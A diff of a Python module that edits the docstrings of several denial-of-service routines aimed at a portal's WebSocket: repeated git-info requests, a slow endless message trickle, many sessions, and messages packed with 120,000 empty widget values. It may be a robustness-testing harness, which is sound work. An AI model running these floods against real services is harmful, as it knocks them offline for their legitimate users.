@@ -1,4 +1,4 @@
-"""Attacks on the WebSocket of a portal. Each runs until it is killed or refused."""
+"""Attacks on the WebSocket of a portal. Each attack runs until it is killed or refused."""
 
 import time
 from contextlib import suppress
@@ -41,7 +41,7 @@ def _make_rerun(**fields: object) -> bytes:
 
 
 def request_git_info(target: Target) -> None:
-    """Request git information 1,000 times, with 8 bytes each."""
+    """Request git information 1,000 times, in messages of 8 bytes."""
     with _open_session(target) as connection:
         for _ in range(1000):
             connection.send(_make_message(load_git_info=True))
@@ -49,7 +49,7 @@ def request_git_info(target: Target) -> None:
 
 
 def trickle_git_info(target: Target) -> None:
-    """Request git information with 469 bytes a second."""
+    """Request git information in messages of 8 bytes, 469 bytes a second."""
     with _open_session(target) as connection:
         while True:
             connection.send(_make_message(load_git_info=True))
@@ -114,7 +114,7 @@ def open_sessions(target: Target) -> None:
 
 
 def send_many_widgets(target: Target) -> None:
-    """Send messages below every size limit, with as many widget values as fit."""
+    """Send messages with 120,000 empty widget values."""
     connections = [_open_session(target) for _ in range(4)]
     message = BackMsg()
     for _ in range(120_000):
